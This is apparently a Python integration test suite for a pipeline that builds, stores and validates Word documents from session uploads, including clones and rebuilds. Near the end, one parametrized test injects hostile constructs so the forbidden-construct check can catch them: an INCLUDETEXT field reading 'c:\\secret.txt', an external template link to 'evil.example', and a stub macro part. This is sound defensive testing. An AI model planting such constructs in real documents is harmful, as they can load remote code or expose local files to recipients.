"""The `document_binary` and `v2_clone_binary` assets over the real services: the tenant's template goes through the
template path (atoms, config), a session upload's one sensor run ends with its document built, stored at both keys
and checked (python-docx, LibreOffice, forbidden constructs, zones); a rebuild gives the same bytes; a bad image is
reported, not a crash; a V2 clone after a config change is built with the new config and the current model while
its parent's document stays as it was; and each blocking check fails on a document that breaks it."""

from __future__ import annotations

import functools
import hashlib
import io
import json
import uuid
import zipfile

import docx
import pytest
from dagster import AssetKey, AssetRecordsFilter

from astra.builder.check import PDF_MAX_ZONE_ROWS, convert_to_pdf
from astra.builder.engine import BuildCaps
from astra.builder.session import (
    SessionBuildError,
    build_session_document,
    clone_source,
    document_key,
    session_media,
)
from astra.core.core_client import IntentClient
from astra.ingest.store import BlobStore, blob_uri
from astra.orchestrator.upload import upload_session
from astra.runtime import config_service
from astra.samples import session_files
from astra.samples.templates import SAMPLE_TEMPLATE_NAME, build_sample_template, sample_sidecar
from astra.settings import Settings
from astra.tenancy import SessionKey
from astra_assets.builder import NO_FORBIDDEN, OPENS, ZONES_PRESENT, document_checks
from astra_assets.local_runner import tick
from tests.dagster.test_intent_output_asset import FLIGHT, TRANSFER, events, said
from tests.dagster.test_session_path import SENSOR, latest

pytestmark = pytest.mark.integration
TEMPLATE_SENSOR = "template_upload_sensor"


@pytest.fixture
def template_tenant(tenant, defs, dagster_instance, s3, run_settings) -> str:
    """A tenant whose config v1 comes from the sample template through the template path (its atoms stored)."""
    prefix = f"{tenant}/templates/{SAMPLE_TEMPLATE_NAME}"
    s3.put_object(Bucket=run_settings.uploads_bucket, Key=f"{prefix}.zones.json",
                  Body=json.dumps(sample_sidecar()).encode())
    s3.put_object(Bucket=run_settings.uploads_bucket, Key=f"{prefix}.docx", Body=build_sample_template(),
                  ChecksumAlgorithm="SHA256")
    runs = tick(defs, dagster_instance, TEMPLATE_SENSOR).results
    assert [r.success for r in runs] == [True]
    return tenant


def upload_and_run(s3, bucket, session: SessionKey, files, defs, instance, clone_of=None, expect_success=True):
    upload_session(s3, bucket, session, SAMPLE_TEMPLATE_NAME, files, clone_of=clone_of)
    (run,) = tick(defs, instance, SENSOR).results
    assert run.success == expect_success
    return run


def materialize(defs, instance, asset: str, session: SessionKey):
    job = defs.resolve_implicit_global_asset_job_def()
    return job.execute_in_process(instance=instance, asset_selection=[AssetKey(asset)],
                                  partition_key=session.partition_key, raise_on_error=False)


def data_version(instance, asset: str, session: SessionKey) -> str:
    (record,) = instance.fetch_materializations(
        AssetRecordsFilter(asset_key=AssetKey(asset), asset_partitions=[session.partition_key]), limit=1).records
    return record.asset_materialization.tags["dagster/data_version"]


def stored(s3, uri: str, version_id: str | None = None) -> bytes:
    bucket, _, key = uri.removeprefix("s3://").partition("/")
    extra = {"VersionId": version_id} if version_id else {}
    return s3.get_object(Bucket=bucket, Key=key, **extra)["Body"].read()


def versions(s3, bucket: str, key: str) -> list[str]:
    listed = s3.list_object_versions(Bucket=bucket, Prefix=key).get("Versions", [])
    return [v["VersionId"] for v in listed if v["Key"] == key]


def checks_of(result) -> dict[str, bool]:
    return {f"{e.asset_key.to_user_string()}:{e.check_name}": e.passed for e in result.get_asset_check_evaluations()}


def zone_texts(data: bytes) -> dict[str, str]:
    """Text of each astra: content control of the body, by zone id."""
    body = docx.Document(io.BytesIO(data)).element.body
    ns = {"w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main"}
    texts = {}
    for sdt in body.iterfind(".//w:sdt", ns):
        tag = sdt.find("w:sdtPr/w:tag", ns)
        if tag is not None and tag.get(f"{{{ns['w']}}}val", "").startswith("astra:"):
            zone = tag.get(f"{{{ns['w']}}}val")[len("astra:"):].split(";")[0]
            texts[zone] = "".join(t.text or "" for t in sdt.iterfind(".//w:t", ns))
    return texts


def test_the_sensor_run_builds_the_sample_document_checked_at_both_keys(defs, dagster_instance, s3, run_settings,
                                                                        template_tenant, core_server, stack_env):
    session = SessionKey(template_tenant, f"s-{uuid.uuid4().hex[:6]}", 1)
    run = upload_and_run(s3, run_settings.uploads_bucket, session, session_files(), defs, dagster_instance)
    assert checks_of(run) == {"custody_audio:custody_verified": True, f"document_binary:{OPENS}": True,
                              f"document_binary:{NO_FORBIDDEN}": True, f"document_binary:{ZONES_PRESENT}": True}
    meta = latest(dagster_instance, "document_binary", session.partition_key)
    assets_bucket = run_settings.assets_bucket
    assert meta["uri"] == f"s3://{assets_bucket}/{document_key(session)}"
    assert meta["uri"].endswith(f"/{template_tenant}/documents/{session.session_id}/v1.docx")
    data = stored(s3, meta["uri"], meta["version_id"])
    sha256 = hashlib.sha256(data).hexdigest()
    assert sha256 == meta["sha256"] == data_version(dagster_instance, "document_binary", session)
    assert meta["size"] == len(data) and meta["written"] is True
    assert stored(s3, meta["blob_uri"]) == data
    assert meta["blob_uri"].endswith(f"/{template_tenant}/blobs/sha256/{sha256[:2]}/{sha256}")

    # What went in is named: the pinned config, the template, the model that answered, the intent output.
    template_sha = hashlib.sha256(build_sample_template()).hexdigest()
    served = IntentClient(core_server.target, stack_env["ASTRA_SERVICE_TOKEN"]).classify(template_tenant, ["hi"])
    assert (meta["config_version"], meta["template_sha256"]) == (1, template_sha)
    assert meta["model_version"] == served.model_version
    assert meta["intent_output_sha256"] == latest(dagster_instance, "intent_output", session.partition_key)["sha256"]
    assert meta["source_partition"] == session.partition_key and meta["problems"] == []
    assert meta["fills"]["site_photo"] == 1 and meta["fills"]["measurements"] == 1
    assert meta["fills"]["summary"] >= 2 and meta["zones_filled"] >= 4

    texts = zone_texts(data)
    assert TRANSFER in texts["summary"] and FLIGHT in texts["summary"]
    assert "P-101" in texts["measurements"] and "north outlet" in texts["measurements"]
    assert set(texts) >= {"summary", "action_items", "measurements", "site_photo", "notes", "title"}
    with zipfile.ZipFile(io.BytesIO(data)) as package:  # the photo embedded physically, not linked
        assert [n for n in package.namelist() if n.startswith("word/media/astra-")]

    # Built again: the same bytes, no new S3 version, the same data version.
    again = materialize(defs, dagster_instance, "document_binary", session)
    assert again.success and all(checks_of(again).values())
    rebuilt = latest(dagster_instance, "document_binary", session.partition_key)
    assert (rebuilt["sha256"], rebuilt["version_id"], rebuilt["written"]) == (sha256, meta["version_id"], False)
    assert versions(s3, assets_bucket, document_key(session)) == [meta["version_id"]]
    assert data_version(dagster_instance, "document_binary", session) == sha256


def test_a_bad_image_is_reported_in_the_metadata_and_left_out(defs, dagster_instance, s3, run_settings,
                                                              template_tenant):
    files = {"transcript.txt": TRANSFER.encode(), "media/site.png": session_files()["media/site.png"],
             "media/broken.png": b"\x89PNG\r\n\x1a\n not really a picture"}
    session = SessionKey(template_tenant, f"s-{uuid.uuid4().hex[:6]}", 1)
    run = upload_and_run(s3, run_settings.uploads_bucket, session, files, defs, dagster_instance)
    assert all(checks_of(run).values())
    meta = latest(dagster_instance, "document_binary", session.partition_key)
    (problem,) = meta["problems"]
    assert (problem["zone"], problem["code"]) == ("site_photo", "image_refused")
    assert problem["detail"].startswith("media/broken.png: ")
    assert meta["fills"]["site_photo"] == 1  # the good one is in
    with zipfile.ZipFile(io.BytesIO(stored(s3, meta["uri"]))) as package:
        assert len([n for n in package.namelist() if n.startswith("word/media/astra-")]) == 1


def test_a_clone_after_a_config_change_builds_v2_with_the_new_config_and_leaves_v1(defs, dagster_instance, s3,
                                                                                  run_settings, template_tenant,
                                                                                  core_server, stack_env):
    sid = f"s-{uuid.uuid4().hex[:6]}"
    parent, clone = SessionKey(template_tenant, sid, 1), SessionKey(template_tenant, sid, 2)
    upload_and_run(s3, run_settings.uploads_bucket, parent, session_files(), defs, dagster_instance)
    v1 = latest(dagster_instance, "document_binary", parent.partition_key)
    v1_bytes = stored(s3, v1["uri"], v1["version_id"])
    assert TRANSFER in zone_texts(v1_bytes)["summary"]

    # Config v2 (same template): banking moves from the summary to the action items.
    service = config_service(Settings.from_env())
    current = service.snapshot(template_tenant)
    zones = {z["id"]: z for z in current.zone_map["zones"]}
    summary = zones["summary"]["accepts"]
    summary["intents"] = [i for i in summary["intents"] if not i.startswith("banking.")]
    summary["domains"] = ["travel"]
    zones["action_items"]["accepts"]["domains"] = [*zones["action_items"]["accepts"]["domains"], "banking"]
    assert service.publish(template_tenant, current.zone_map, current.style_map, current.template_sha256, "test",
                           SAMPLE_TEMPLATE_NAME) == 2

    # A clone carries a file of its own (an upload must); its words are not an input: the parent's are.
    own_words = "The clone's own transcript, which no document shows."
    run = upload_and_run(s3, run_settings.uploads_bucket, clone, {"transcript.txt": own_words.encode()}, defs,
                         dagster_instance, clone_of=1)
    # The clone's run is the clone's assets only: no transcript, intent output or document_binary of its own.
    assert {k.to_user_string() for k in run.dagster_run.asset_selection} == {
        "session_handover", "custody_audio", "v2_clone_binary"}
    assert all(checks_of(run).values()) and len(checks_of(run)) == 4
    meta = latest(dagster_instance, "v2_clone_binary", clone.partition_key)
    served = IntentClient(core_server.target, stack_env["ASTRA_SERVICE_TOKEN"]).classify(template_tenant, ["hi"])
    assert (meta["config_version"], meta["parent_config_version"]) == (2, 1)
    assert meta["model_version"] == served.model_version and meta["parent_model_version"] == v1["model_version"]
    assert (meta["parent_partition"], meta["parent_sha256"]) == (parent.partition_key, v1["sha256"])
    assert (meta["parent_uri"], meta["parent_version_id"]) == (v1["uri"], v1["version_id"])
    assert meta["source_partition"] == parent.partition_key and meta["parent_unchanged"] is True
    assert meta["transcript_sha256"] == v1["transcript_sha256"]
    assert meta["uri"].endswith(f"/{template_tenant}/documents/{sid}/v2.docx")
    v2_bytes = stored(s3, meta["uri"], meta["version_id"])
    assert hashlib.sha256(v2_bytes).hexdigest() == meta["sha256"] == data_version(dagster_instance,
                                                                                 "v2_clone_binary", clone)
    texts = zone_texts(v2_bytes)
    assert TRANSFER in texts["action_items"] and TRANSFER not in texts["summary"]
    assert FLIGHT in texts["summary"] and own_words not in "".join(texts.values())
    assert "P-101" in texts["measurements"] and meta["fills"]["site_photo"] == 1  # the parent's data and media

    # The parent's document is as it was: one S3 version, the same bytes, its materialization the only one.
    assert versions(s3, run_settings.assets_bucket, document_key(parent)) == [v1["version_id"]]
    assert stored(s3, v1["uri"]) == v1_bytes
    assert latest(dagster_instance, "document_binary", parent.partition_key) == v1

    # Both selected over both versions (a backfill from the UI, a re-offered run): each version gets its own
    # document, rebuilt to the same bytes; the other asset materializes nothing for it.
    for version, built in ((parent, v1), (clone, meta)):
        both = defs.resolve_implicit_global_asset_job_def().execute_in_process(
            instance=dagster_instance, asset_selection=[AssetKey("document_binary"), AssetKey("v2_clone_binary")],
            partition_key=version.partition_key)
        assert both.success
        (materialized,) = [e.asset_key.to_user_string() for e in both.get_asset_materialization_events()]
        assert materialized == ("v2_clone_binary" if version == clone else "document_binary")
        assert latest(dagster_instance, materialized, version.partition_key)["sha256"] == built["sha256"]
    assert latest(dagster_instance, "document_binary", clone.partition_key) == {}
    assert latest(dagster_instance, "v2_clone_binary", parent.partition_key) == {}


def test_libreoffice_missing_fails_the_blocking_check_once_and_records_why(defs, dagster_instance, s3, run_settings,
                                                                           template_tenant, monkeypatch, tmp_path):
    session = SessionKey(template_tenant, f"s-{uuid.uuid4().hex[:6]}", 1)
    upload_and_run(s3, run_settings.uploads_bucket, session, {"transcript.txt": TRANSFER.encode()}, defs,
                   dagster_instance)
    monkeypatch.setenv("PATH", str(tmp_path))  # a worker without LibreOffice: soffice is not found
    result = materialize(defs, dagster_instance, "document_binary", session)
    assert not result.success and events(result, "STEP_UP_FOR_RETRY") == []
    (failure,) = events(result, "STEP_FAILURE")
    assert "1 blocking check(s) failed" in said(failure.event_specific_data.error)
    assert "LibreOffice (soffice) is not installed" in said(failure.event_specific_data.error)
    assert checks_of(result) == {f"document_binary:{OPENS}": False, f"document_binary:{NO_FORBIDDEN}": True,
                                 f"document_binary:{ZONES_PRESENT}": True}


def test_an_engine_fault_on_the_inputs_fails_once(defs, dagster_instance, s3, run_settings, template_tenant,
                                                 monkeypatch):
    """The engine reads no service: whatever it raises on these inputs, it raises again, so the step is not retried."""
    session = SessionKey(template_tenant, f"s-{uuid.uuid4().hex[:6]}", 1)
    upload_and_run(s3, run_settings.uploads_bucket, session, {"transcript.txt": TRANSFER.encode()}, defs,
                   dagster_instance)

    def faulty_engine(*args, **kwargs):
        raise KeyError("w:tblGrid")  # an engine bug on some template, as a test can provoke it

    monkeypatch.setattr("astra.builder.session.build", faulty_engine)
    result = materialize(defs, dagster_instance, "document_binary", session)
    assert not result.success and events(result, "STEP_UP_FOR_RETRY") == []
    (failure,) = events(result, "STEP_FAILURE")
    assert "the engine failed on these inputs: KeyError: 'w:tblGrid'" in said(failure.event_specific_data.error)


def test_a_clone_is_built_only_from_its_own_session_s_inputs(s3, settings):
    clone = SessionKey("acme", "s-1", 2)
    assert clone_source(clone, "acme--s-1--v1") == SessionKey("acme", "s-1", 1)
    for elsewhere in ("other--s-1--v1", "acme--s-2--v1"):
        with pytest.raises(SessionBuildError, match="another session's"):
            clone_source(clone, elsewhere)
    record = {"session": {"tenant": "acme", "session_id": "s-1", "version": 2}, "files": []}
    foreign = {"session": {"tenant": "other", "session_id": "s-1", "version": 1}, "files": []}
    with pytest.raises(SessionBuildError, match="another session's"):
        build_session_document(s3, settings.assets_bucket, record, None, b"", {}, "0" * 64, foreign)


def test_media_copies_too_large_or_damaged_are_left_out_with_a_reason(s3, settings, tenant):
    """Before the engine sees them: a copy over the image cap is not even read, a damaged one is not used."""
    png = session_files()["media/site.png"]
    sha = hashlib.sha256(png).hexdigest()
    BlobStore(s3, settings.assets_bucket, tenant).put_once(sha, png)

    def media_file(path: str, size: int = len(png), sha256: str = sha) -> dict:
        return {"role": "media", "path": path, "size": size, "sha256": sha256,
                "blob_uri": blob_uri(settings.assets_bucket, tenant, sha256)}

    too_large = BuildCaps().max_image_bytes + 1
    record = {"files": [media_file("media/good.png"), media_file("media/huge.png", size=too_large),
                        media_file("media/lost.png", sha256="0" * 64),
                        media_file("data/readings.csv") | {"role": "data"}]}  # not media: not read
    media, problems = session_media(s3, record)
    assert media == {"media/good.png": png}
    assert [(p["code"], p["detail"].split(":")[0]) for p in problems] == [
        ("image_refused", "media/huge.png"), ("media_unreadable", "media/lost.png")]
    assert "too_large" in problems[0]["detail"] and "is missing" in problems[1]["detail"]


# --------------------------------------------------------------------------- each check fails on what breaks it


def rewritten(data: bytes, member: str, change, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            dst.writestr(item, change(body) if item.filename == member else body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


@pytest.fixture(scope="module")
def built_sample() -> tuple[bytes, dict, bytes]:
    """The sample template built with a little content: (document, zone map, template)."""
    from astra.builder.engine import build
    from astra.ingest.zones import extract_maps

    template = build_sample_template()
    maps = extract_maps(template, sample_sidecar())
    output = {"utterances": [{"id": "u1", "text": TRANSFER}], "tables": [],
              "zones": [{"id": "summary", "utterances": ["u1"], "tables": []}]}
    return build(template, maps.zone_map, maps.style_map, output).docx, maps.zone_map, template


def verdicts(data: bytes, zone_map: dict, template: bytes) -> dict[str, list[str]]:
    return {name: [f["code"] for f in findings] for name, findings, _ in document_checks(data, zone_map, template)}


def test_the_checks_pass_on_the_built_sample(built_sample):
    assert verdicts(*built_sample) == {OPENS: [], NO_FORBIDDEN: [], ZONES_PRESENT: []}


@pytest.mark.parametrize("case, expected", [
    ("field", {NO_FORBIDDEN: ["field_not_allowed"]}),
    ("hostile_field", {NO_FORBIDDEN: ["forbidden_construct", "field_not_allowed"]}),
    ("external_link", {NO_FORBIDDEN: ["forbidden_construct", "external_relationship"]}),
    ("macro", {NO_FORBIDDEN: ["forbidden_construct"]}),
    ("zone_gone", {ZONES_PRESENT: ["zone_missing"]}),
])
def test_each_check_fails_on_what_breaks_it(built_sample, case, expected):
    data, zone_map, template = built_sample
    document = "word/document.xml"
    if case in ("field", "hostile_field"):  # a field BUILDER never writes, as if text had become markup
        instruction = b" AUTHOR " if case == "field" else b" INCLUDETEXT &quot;c:\\\\secret.txt&quot; "
        broken = rewritten(data, document, lambda b: b.replace(
            b"</w:body>", b'<w:p><w:fldSimple w:instr="' + instruction + b'"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
            b"</w:p></w:body>", 1))
    elif case == "external_link":
        broken = rewritten(data, "word/_rels/document.xml.rels", lambda b: b.replace(
            b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>"))
    elif case == "macro":
        broken = rewritten(data, document, lambda b: b, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    else:  # the summary control's tag renamed: that zone is no longer found
        broken = rewritten(data, document, lambda b: b.replace(b'w:val="astra:summary', b'w:val="other:summary', 1))
    found = verdicts(broken, zone_map, template)
    assert found == {OPENS: [], NO_FORBIDDEN: [], ZONES_PRESENT: [], **expected}


def test_a_document_that_does_not_open_fails_every_check(built_sample):
    _, zone_map, template = built_sample
    assert verdicts(b"PK\x03\x04 not a zip at all", zone_map, template) == {
        OPENS: ["does_not_open"], NO_FORBIDDEN: ["not_judged"], ZONES_PRESENT: ["not_judged"]}


def test_a_large_document_opens_through_the_cut_copy(built_sample):
    """A 5,000-row table (minutes of LibreOffice layout whole) passes `document_opens` in seconds; the metadata says
    what LibreOffice did not see."""
    from astra.builder.engine import build
    from astra.ingest.zones import extract_maps

    _, zone_map, template = built_sample
    maps = extract_maps(template, sample_sidecar())
    rows = [[f"P-{n}", n * 0.5] for n in range(5_000)]
    table = {"id": "data/big.csv", "source": "data/big.csv", "sheet": None, "header": ["sensor", "kpa"],
             "columns": [{"name": "sensor", "type": "text"}, {"name": "kpa", "type": "decimal"}], "rows": rows,
             "row_count": len(rows)}
    output = {"utterances": [], "tables": [{**table, "zone": "measurements"}],
              "zones": [{"id": "measurements", "utterances": [], "tables": ["data/big.csv"]}]}
    data = build(template, maps.zone_map, maps.style_map, output).docx
    (opens,) = document_checks(data, zone_map, template, {OPENS})
    assert opens[1] == []
    assert opens[2]["pdf_rows_left_out"] == 5_001 - PDF_MAX_ZONE_ROWS and opens[2]["pdf_bytes"] > 0
    assert opens[2]["conversion_s"] < 60


def test_a_libreoffice_timeout_is_a_failure_that_says_so(built_sample, monkeypatch):
    monkeypatch.setattr("astra_assets.builder.convert_to_pdf", functools.partial(convert_to_pdf, timeout=0.01))
    (opens,) = document_checks(*built_sample, {OPENS})
    assert [f["code"] for f in opens[1]] == ["pdf_conversion_timeout"]
    assert "did not finish the conversion within 0.01 s" in opens[1][0]["detail"]


def test_every_finding_of_check_document_fails_a_blocking_check():
    """A stray placeholder, a duplicated zone or a misplaced control fails a blocking check, not only the report."""
    from astra.samples.edits import DocumentEdit
    from tests.learn.helpers import built, intent_output, sample_template, zone_map

    zones = zone_map()
    document = built(zones, intent_output())
    checks = {NO_FORBIDDEN, ZONES_PRESENT}
    assert all(not findings for _, findings, _ in document_checks(document, zones, sample_template(), checks))

    def verdicts(edit) -> dict[str, list[str]]:
        e = DocumentEdit(document)
        edit(e)
        found = document_checks(e.save(), zones, sample_template(), checks)
        return {name: sorted({f["code"] for f in findings}) for name, findings, _ in found}

    assert verdicts(lambda e: e.add("notes", "{{ summary }}"))[ZONES_PRESENT] == []  # inside a zone: the user's text
    assert verdicts(lambda e: e.outside("This report records one site visit.", "{{ summary }}"))[ZONES_PRESENT] == [
        "placeholder_left"]
    assert verdicts(lambda e: e.copy_control("notes"))[ZONES_PRESENT] == ["duplicate_zone"]

    def misplace(e) -> None:  # a control straight inside a run: no schema allows it there
        sdt = e.control("notes")
        run = e.paragraph("This report records one site visit.").find(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}r")
        run.append(sdt)
    assert verdicts(misplace) == {NO_FORBIDDEN: ["misplaced_control"], ZONES_PRESENT: []}
